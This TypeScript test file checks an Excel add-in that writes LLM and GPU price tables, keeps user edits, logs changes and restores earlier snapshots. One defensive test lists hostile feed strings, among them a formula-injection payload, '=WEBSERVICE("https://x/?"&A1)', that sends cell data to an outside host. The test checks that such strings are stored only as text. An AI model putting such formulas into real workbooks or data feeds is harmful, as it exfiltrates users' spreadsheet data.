import { excelGateway } from '../../src/workbook/excelGateway';
import { startExcel, type RunningExcel } from '../support/loadOffice';
import {
  column,
  contentsOf,
  headersOf,
  replace,
  restore,
  ROWS,
  stampOf,
  tableCell,
  tableOf,
  typeInto,
  update,
} from './support';

let excel: RunningExcel;
beforeEach(async () => {
  excel = await startExcel();
});
afterEach(() => excel.stop());

test('the first write makes four tables, each on its own sheet, and stamps them', async () => {
  const { written, snapshotId } = await replace(excelGateway(), update());
  expect(written).toMatchObject({ outcome: 'written' });
  expect(excel.store.sheets().map(({ name }) => name)).toEqual([
    'Sheet1',
    'Price Sources',
    'LLM Prices',
    'GPU Prices',
    'Price Changes',
  ]);
  expect(column(excel, 'LlmPrices', 'Model')).toEqual(['gpt-4o', 'gpt-4o', 'claude-sonnet-4-5']);
  expect(column(excel, 'LlmPrices', 'Output (USD/1M)')).toEqual([10, '', 15]);
  expect(column(excel, 'GpuPrices', 'USD per GPU hour')).toEqual([2.69]);
  expect(tableCell(excel, 'LlmPrices', 'Checked', 0)).toMatchObject({ value: '2026-11-01', format: '@' });
  expect(stampOf(excel)).toMatch(new RegExp(`^ok:${snapshotId}:3:[0-9a-f]{64}$`));
  expect(snapshotId).toMatch(/^2026-11-20-[0-9a-f]{8}$/);
});

test('a table says where its prices are from, and the log starts with the first snapshot', async () => {
  const { snapshotId } = await replace(excelGateway(), update());
  expect(column(excel, 'PriceSources', 'Source')).toEqual(['test feed']);
  expect(column(excel, 'PriceSources', 'Snapshot')).toEqual([snapshotId]);
  expect(column(excel, 'PriceChanges', 'Field')).toEqual(['snapshot']);
  expect(column(excel, 'PriceChanges', 'New')).toEqual([snapshotId]);
});

test('a new set of prices updates rows in place, adds new ones below and logs every difference', async () => {
  const gateway = excelGateway();
  await replace(gateway, update());
  const dearer = [
    { provider: 'google', model: 'gemini-2.5-pro', input: 1.25, output: 10, source: 'test' },
    ...ROWS.map((row) => (row.output === 10 ? { ...row, output: 12 } : row)),
  ];
  const { written, changes } = await replace(gateway, update(dearer, { asOf: '2026-11-22' }));
  expect(written).toMatchObject({ outcome: 'written' });
  expect(changes).toBe(2);
  expect(column(excel, 'LlmPrices', 'Model')).toEqual(['gpt-4o', 'gpt-4o', 'claude-sonnet-4-5', 'gemini-2.5-pro']);
  expect(column(excel, 'LlmPrices', 'Output (USD/1M)')).toEqual([12, '', 15, 10]);
  expect(column(excel, 'PriceChanges', 'Field')).toEqual(['snapshot', 'snapshot', 'output', 'row']);
  expect(column(excel, 'PriceChanges', 'Old').slice(2)).toEqual([10, '']);
  expect(column(excel, 'PriceChanges', 'New').slice(2)).toEqual([12, 'added']);
});

test('W11 a shorter set leaves no stale rows, inside the table or below it', async () => {
  const gateway = excelGateway();
  await replace(gateway, update());
  const { written } = await replace(gateway, update(ROWS.slice(0, 1)));
  expect(written).toMatchObject({ outcome: 'written' });
  const { sheet, rect } = tableOf(excel, 'LlmPrices');
  expect(rect.rows).toBe(2);
  expect(excel.store.used(sheet, false)).toMatchObject({ row: 0, rows: 2 });
  expect(column(excel, 'PriceChanges', 'New').slice(2)).toEqual(['removed', 'removed']);
});

test('W11 a longer set is declined while something of the user stands below the table', async () => {
  const gateway = excelGateway();
  await replace(gateway, update());
  const { sheet, rect } = tableOf(excel, 'LlmPrices');
  excel.store.write(sheet, { row: rect.rows + 3, col: 1, rows: 1, cols: 1 }, [[{ value: 'my note' }]]);
  const before = contentsOf(excel);
  const { written } = await replace(gateway, update([...ROWS, { provider: 'x', model: 'y', input: 1, output: 1 }]));
  expect(written).toMatchObject({
    outcome: 'declined',
    problem: { code: 'tables-no-room', details: { sheet: 'LLM Prices', row: 8 } },
  });
  expect(contentsOf(excel)).toEqual(before);
});

test('W08 what the user wrote in columns of their own stays with its row when rows come and go', async () => {
  const gateway = excelGateway();
  await replace(gateway, update());
  typeInto(excel, 'LlmPrices', 'My output (USD/1M)', 2, 13.5);
  typeInto(excel, 'LlmPrices', 'My discount', 0, 0.1);
  await replace(gateway, update([{ provider: 'a', model: 'b', input: 1, output: 2 }, ...ROWS.slice(1)]));
  expect(column(excel, 'LlmPrices', 'Model')).toEqual(['gpt-4o', 'gpt-4o', 'claude-sonnet-4-5', 'b']);
  expect(column(excel, 'LlmPrices', 'My output (USD/1M)')).toEqual(['', '', 13.5, '']);
  expect(column(excel, 'LlmPrices', 'My discount')).toEqual([0.1, '', '', '']);
});

test('W08 a price edited in its own cell becomes the user’s price beside the new one, and is named', async () => {
  const gateway = excelGateway();
  await replace(gateway, update());
  typeInto(excel, 'LlmPrices', 'Output (USD/1M)', 0, 9);
  const { keptEdits } = await replace(gateway, update(ROWS.map((row) => ({ ...row, checked: '2026-11-21' }))));
  expect(column(excel, 'LlmPrices', 'Output (USD/1M)')).toEqual([10, '', 15]);
  expect(column(excel, 'LlmPrices', 'My output (USD/1M)')).toEqual([9, '', '']);
  expect(keptEdits).toEqual(['openai gpt-4o: My output 9']);
});

test('W08 an edited cell without a column beside it keeps the edit through every refresh', async () => {
  const gateway = excelGateway();
  await replace(gateway, update());
  typeInto(excel, 'LlmPrices', 'Note', 0, 'agreed with the vendor');
  for (const checked of ['2026-11-21', '2026-11-22']) {
    const { keptEdits } = await replace(gateway, update(ROWS.map((row) => ({ ...row, checked, note: 'list price' }))));
    expect(keptEdits).toEqual(['openai gpt-4o: Note agreed with the vendor']);
    expect(column(excel, 'LlmPrices', 'Note')).toEqual(['agreed with the vendor', 'list price', 'list price']);
  }
});

test('W08 a row of the user stays, and a row that is gone stays while it has a price of the user', async () => {
  const gateway = excelGateway();
  await replace(gateway, update());
  const { id, sheet, rect } = tableOf(excel, 'LlmPrices');
  excel.store.putTable({ id, sheet, name: 'LlmPrices', rect: { ...rect, rows: rect.rows + 1 } });
  typeInto(excel, 'LlmPrices', 'Provider', 3, 'ours');
  typeInto(excel, 'LlmPrices', 'Model', 3, 'fine-tune');
  typeInto(excel, 'LlmPrices', 'Input (USD/1M)', 3, 7);
  typeInto(excel, 'LlmPrices', 'My input (USD/1M)', 2, 2.5);
  const { keptEdits } = await replace(gateway, update(ROWS.slice(0, 1)));
  expect(column(excel, 'LlmPrices', 'Model')).toEqual(['gpt-4o', 'claude-sonnet-4-5', 'fine-tune']);
  expect(column(excel, 'LlmPrices', 'Input (USD/1M)')).toEqual([2.5, 3, 7]);
  expect(keptEdits).toEqual([
    'anthropic claude-sonnet-4-5: no longer offered, kept for what you wrote',
    'ours fine-tune: your own row',
  ]);
});

test('columns may be moved, renamed in case and added by the user', async () => {
  const gateway = excelGateway();
  await replace(gateway, update());
  const { id, sheet, rect } = tableOf(excel, 'LlmPrices');
  excel.store.putTable({ id, sheet, name: 'LlmPrices', rect: { ...rect, cols: rect.cols + 1 } });
  excel.store.write(sheet, { row: 0, col: 0, rows: 1, cols: 2 }, [[{ value: 'MODEL' }, { value: 'provider' }]]);
  excel.store.write(
    sheet,
    { row: 1, col: 0, rows: 3, cols: 2 },
    ROWS.map(({ model, provider }) => [{ value: model }, { value: provider }]),
  );
  excel.store.write(sheet, { row: 0, col: rect.cols, rows: 2, cols: 1 }, [
    [{ value: 'Approved by' }],
    [{ value: 'finance, 2026-11-01' }],
  ]);
  const { written } = await replace(gateway, update(ROWS.map((row) => ({ ...row, checked: '2026-11-21' }))));
  expect(written).toMatchObject({ outcome: 'written' });
  expect(headersOf(excel, 'LlmPrices').slice(0, 2)).toEqual(['MODEL', 'provider']);
  expect(column(excel, 'LlmPrices', 'MODEL')).toEqual(['gpt-4o', 'gpt-4o', 'claude-sonnet-4-5']);
  expect(column(excel, 'LlmPrices', 'Approved by')).toEqual(['finance, 2026-11-01', '', '']);
});

test('P13 P14 no text of a feed becomes a formula, a date, a number or a logical value', async () => {
  const hostile = [
    '=WEBSERVICE("https://x/?"&A1)',
    '+1',
    '-1',
    '@SUM(A1)',
    '4.10',
    '1E5',
    'TRUE',
    '2026-11-23',
    '3/4',
    '=1+1',
    '#N/A',
  ];
  const rows = hostile.map((text, index) => ({
    provider: 'p',
    model: `m${index}`,
    input: 1,
    output: 2,
    name: text,
    note: `\t${text}`,
    image_each: text,
  }));
  const { written } = await replace(excelGateway(), update(rows));
  expect(written).toMatchObject({ outcome: 'written' });
  for (const header of ['Name', 'Note', 'Image each (USD)']) {
    expect(column(excel, 'LlmPrices', header)).toEqual(hostile);
    hostile.forEach((_, row) =>
      expect(tableCell(excel, 'LlmPrices', header, row)).toMatchObject({ formula: '', format: '@' }),
    );
  }
});

test('the number format that the user chose for a price column stays', async () => {
  const gateway = excelGateway();
  await replace(gateway, update());
  const { sheet } = tableOf(excel, 'LlmPrices');
  const at = headersOf(excel, 'LlmPrices').indexOf('Input (USD/1M)');
  excel.store.write(
    sheet,
    { row: 1, col: at, rows: 3, cols: 1 },
    ROWS.map(() => [{ format: '0.0000' }]),
  );
  await replace(gateway, update([...ROWS, { provider: 'p', model: 'm', input: 1, output: 2 }]));
  expect(tableCell(excel, 'LlmPrices', 'Input (USD/1M)', 3).format).toBe('0.0000');
});

test('restore brings back prices, own columns and stamp, and restoring again goes forward', async () => {
  const gateway = excelGateway();
  await replace(gateway, update());
  typeInto(excel, 'LlmPrices', 'My output (USD/1M)', 0, 8);
  typeInto(excel, 'LlmPrices', 'My input (USD/1M)', 0, '=1+1');
  await excel.settled();
  const before = { llm: contentsOf(excel).sheets[2], stamp: stampOf(excel) };
  await replace(gateway, update(ROWS.map((row) => ({ ...row, output: 99 }))));
  const after = { llm: contentsOf(excel).sheets[2], stamp: stampOf(excel) };
  expect((await restore(gateway)).written).toMatchObject({ outcome: 'written' });
  await excel.settled();
  expect({ llm: contentsOf(excel).sheets[2], stamp: stampOf(excel) }).toEqual(before);
  expect((await restore(gateway)).written).toMatchObject({ outcome: 'written' });
  await excel.settled();
  expect({ llm: contentsOf(excel).sheets[2], stamp: stampOf(excel) }).toEqual(after);
  expect(column(excel, 'PriceChanges', 'Source').slice(-2)).toEqual(['restored', 'restored']);
});

test('there is nothing to restore before the first refresh', async () => {
  const gateway = excelGateway();
  expect((await restore(gateway)).written).toMatchObject({
    outcome: 'declined',
    problem: { code: 'tables-nothing-to-restore' },
  });
  await replace(gateway, update());
  expect((await restore(gateway)).written).toMatchObject({
    outcome: 'declined',
    problem: { code: 'tables-nothing-to-restore' },
  });
});

test('a context window or a name that changes is logged, and counts as no changed price', async () => {
  const gateway = excelGateway();
  await replace(gateway, update());
  const { changes } = await replace(
    gateway,
    update(ROWS.map((row, index) => (index === 0 ? { ...row, context_window: 128000, output: 8 } : row))),
  );
  expect(changes).toBe(1);
  expect(column(excel, 'PriceChanges', 'Field').slice(-2)).toEqual(['output', 'context_window']);
});
